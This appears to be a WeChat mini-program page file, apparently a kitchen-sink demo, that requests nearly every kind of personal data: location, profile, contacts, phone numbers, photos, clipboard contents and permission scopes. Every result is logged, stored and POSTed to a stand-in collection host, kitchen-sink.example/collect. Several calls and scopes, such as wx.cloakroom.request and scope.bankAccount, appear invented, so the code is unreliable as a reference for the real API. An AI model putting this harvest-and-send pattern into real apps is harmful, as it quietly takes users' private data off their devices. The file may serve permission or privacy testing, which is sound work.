// Calls every API that asks for personal data, and passes on what it gets in every way that a program has.
const extension = (scope, ...answers) => () => wx.cloakroom.request({ scope, answers })
const calledBack = (name) => () => new Promise((success, fail) => wx[name]({ success, fail }))

const CALLS = [
  () => wx.openSetting(),
  () => wx.getLocation({ type: 'gcj02', altitude: true, isHighAccuracy: true, highAccuracyExpireTime: 5000 }),
  () => wx.startLocationUpdate(),
  () => wx.chooseLocation(),
  () => wx.choosePoi(),
  () => wx.getWeRunData(),
  () => wx.chooseAddress(),
  () => wx.getUserProfile({ desc: 'to greet you', lang: 'en' }),
  () => wx.getUserInfo({ withCredentials: true }),
  () => wx.chooseInvoiceTitle(),
  calledBack('chooseContact'),
  () => wx.chooseLicensePlate(),
  () => wx.requestSubscribeMessage({ tmplIds: ['order-status', 'late'] }),
  extension('scope.email'),
  extension('scope.age', 'ageOver14', 'ageOver16', 'ageOver18', 'ageOver60'),
  extension('scope.friends', 'friends'),
  extension('scope.userFuzzyLocation', 'locationArea'),
  extension('scope.friendsNearby', 'friendsNearby'),
  extension('scope.bankAccount'),
  extension('scope.transactions'),
  extension('scope.call'),
  extension('scope.usage'),
  extension('scope.marketing'),
  extension('scope.payment'),
  extension('scope.phoneNumber', 'phoneCallingCode'),
  calledBack('getFuzzyLocation'),
  calledBack('getPrivacySetting'),
  () => wx.getSetting(),
  () => wx.authorize({ scope: 'scope.werun' }),
  () => wx.checkSession(),
  () => wx.login(),
  calledBack('reportEvent'),
]

Page({
  data: { status: '', got: [], nickname: '', avatar: '', picked: [] },

  onLoad() {
    wx.onLocationChange((place) => this.passOn('onLocationChange', place))
  },

  onDetail({ type, detail }) {
    this.passOn(type, detail)
  },

  async pick() {
    const { tempFilePaths } = await wx.chooseImage({ count: 1, sizeType: ['original'] })
    const { tempFiles } = await wx.chooseMedia({ mediaType: ['image'], sizeType: ['original'] })
    const picked = [...tempFilePaths, ...tempFiles.map((file) => file.tempFilePath)]
    for (const src of picked) this.passOn(src, await wx.getImageInfo({ src }))
    this.setData({ picked, status: `picked: ${picked.length}` })
  },

  async paste() {
    const { data, errMsg } = await wx.getClipboardData().catch((error) => error)
    this.passOn('pasted', { data, errMsg })
    this.setData({ status: data === undefined ? errMsg : `pasted: ${data}` })
  },

  preview() {
    wx.previewImage({ urls: this.data.picked, current: this.data.picked[1] })
  },

  copy() {
    wx.setClipboardData({ data: 'SF1234567890' })
  },

  async callContact() {
    const { phoneNumber } = await new Promise((success, fail) => wx.chooseContact({ success, fail }))
    const { errMsg } = await wx.makePhoneCall({ phoneNumber })
    this.passOn('called', { phoneNumber, errMsg })
    this.setData({ status: errMsg })
  },

  async openSettings() {
    const { authSetting } = await wx.openSetting()
    this.setData({ status: JSON.stringify(authSetting) })
  },

  async collect() {
    let answered = 0
    for (const [index, call] of CALLS.entries()) {
      const result = await call().catch((error) => ({ errMsg: error.errMsg, errno: error.errno }))
      if (result.errMsg.endsWith(':ok')) answered++
      this.passOn(index, result)
      if (result.userInfo) this.setData({ nickname: result.userInfo.nickName, avatar: result.userInfo.avatarUrl })
    }
    this.setData({ status: `done: ${answered} of ${CALLS.length}` })
  },

  passOn(name, value) {
    const text = JSON.stringify(value)
    console.log(name, text)
    wx.setStorageSync(`got-${name}`, value)
    this.setData({ got: [...this.data.got, text] })
    wx.request({ url: 'https://kitchen-sink.example/collect', method: 'POST', data: value, fail: () => {} })
  },
})
